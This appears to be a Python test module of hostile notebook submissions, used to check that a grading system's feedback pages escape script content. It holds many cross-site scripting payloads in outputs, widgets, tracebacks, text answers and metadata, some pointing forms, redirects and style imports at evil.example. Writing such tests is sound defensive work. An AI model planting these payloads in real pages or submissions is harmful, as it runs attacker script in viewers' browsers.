"""Outputs, texts and names that would run scripts in the browser of who looks at feedback."""

from nbformat import NotebookNode

from tests.hostile.attack import RIGHT, Attack, solved

OUTPUTS = """
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
display(HTML("<script>alert('EVIL')</script><img src=x onerror=alert('EVIL')>"))
display(HTML("<a href='javascript:alert(`EVIL`)'>x</a><iframe srcdoc='<script>EVIL()</script>'></iframe>"))
display(HTML("<form action='https://evil.example/EVIL'><input name=x></form><base href='https://evil.example/EVIL'>"))
display(HTML("<style>@import 'https://evil.example/EVIL';</style><svg onload=EVIL()><script>EVIL()</script></svg>"))
display(HTML("<math><mtext><table><mglyph><style><img src=x onerror=EVIL()></style></mglyph></table></mtext></math>"))
display(HTML("<meta http-equiv=refresh content='0; url=https://evil.example/EVIL'><object data='EVIL.swf'></object>"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='EVIL()'><script>EVIL()</script></svg>"))
display(Javascript("alert('EVIL')"))
display(Markdown("[x](javascript:EVIL()) <img src=x onerror=EVIL()> ![x](x \\"'onerror='EVIL()\\")"))
display(Latex(r"$\\href{javascript:EVIL()}{x}$ \\unicode{<img src=x onerror=EVIL()>}"))
display({"text/html": ["<scr", "ipt>EVIL()</script>"], "application/javascript": "EVIL()"}, raw=True)
display({"image/png": "'><script>EVIL()</script>", "text/plain": "x"}, raw=True)
display({"text/html; charset=<script>EVIL()</script>": "x", "text/plain": "x"}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>EVIL()</script>"}}, raw=True)
print("\\x1b[31m<script>EVIL()</script>\\x1b]8;;javascript:EVIL()\\x07x\\x1b]8;;\\x07")
"""

WIDGETS = """
import ipywidgets
from IPython.display import display
display(ipywidgets.HTML("<script>EVIL()</script><img src=x onerror=EVIL()>", description="</script><b onclick=EVIL()>"))
"""

ERROR = """
class Error(Exception):
    def _render_traceback_(self):
        return ["<script>EVIL()</script>", "\\x1b[31m<img src=x onerror=EVIL()>"]
Error.__name__ = "<script>EVIL()</script>"
raise Error("</pre><script>EVIL()</script>")
"""

PROSE = """I think so. <script>EVIL()</script> <img src=x onerror="EVIL()"> [x](javascript:EVIL())

<svg><animate onbegin=EVIL() attributeName=x dur=1s></svg> <details open ontoggle=EVIL()> $x</script><script>EVIL()$

![x](attachment:x.svg) <a href="JaVaScRiPt&colon;EVIL()">x</a>
"""


def in_metadata(notebook: NotebookNode) -> NotebookNode:
    """Put scripts where a page shows a notebook's metadata, attachments and titles."""
    evil = "</title></script><script>EVIL()</script>"
    notebook.metadata["title"] = evil
    notebook.metadata["authors"] = [{"name": evil}]
    notebook.metadata["language_info"] = {"name": evil, "pygments_lexer": evil, "codemirror_mode": evil}
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {evil: {"x": evil}}}}
    for cell in notebook.cells:
        cell.metadata["tags"] = [evil]
        if cell.cell_type == "markdown":
            cell["attachments"] = {"x.svg": {"image/svg+xml": "<svg onload=EVIL()><script>EVIL()</script></svg>"}}
    return notebook


ATTACKS: dict[str, Attack] = {
    "script-outputs": solved("displays scripts, handlers, frames, forms and odd types of output", "scripts", OUTPUTS),
    "script-widgets": solved("puts scripts into widgets", "scripts", WIDGETS),
    "script-errors": Attack(
        "puts scripts into an error's name, text and traceback",
        "scripts",
        {"by_hand": ERROR},
        earned=RIGHT,
        shows="EVIL",
    ),
    "script-prose": Attack("puts scripts into a text answer", "scripts", {"why": PROSE}, shows=None),
    "script-metadata": Attack(
        "puts scripts into metadata, tags and attachments", "scripts", change=in_metadata, shows=None
    ),
    "script-page": Attack(
        "hands in a page with scripts, named like the feedback",
        "scripts",
        files={"ps1.html": b"<script>EVIL()</script>", "more/x.svg": b"<svg onload='EVIL()'/>"},
        shows=None,
    ),
}
